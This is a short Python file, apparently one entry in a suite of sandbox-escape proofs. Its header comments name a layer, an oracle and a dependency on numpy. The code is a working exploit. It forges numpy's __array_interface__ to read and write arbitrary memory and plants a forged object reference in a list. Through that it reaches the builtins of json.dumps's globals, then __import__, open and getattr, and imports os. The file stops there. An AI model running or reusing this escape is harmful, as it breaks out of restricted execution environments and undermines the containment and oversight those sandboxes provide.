# layer: kernel
# proves: any memory by an attribute that numpy asks an instance for
# oracle: drop
# then: reach
# needs: numpy

import types, json, numpy as np
def mem(addr, n=1):
    ns = types.SimpleNamespace(**{"__array_interface__": {"data": (addr, False), "shape": (n,), "typestr": "<u8", "version": 3}})
    return np.asarray(ns)
L = [None]
def obj(addr):
    mem(addr)[0] += 1                          # a reference for the list
    mem(int(mem(id(L) + 24)[0]))[0] = addr     # its first item
    return L[0]
b = obj(int(mem(id(json.dumps) + 16)[0]))["__builtins__"]    # the globals of a function
imp, opener, get = b["__import__"], b["open"], b["getattr"]
os = imp("os")
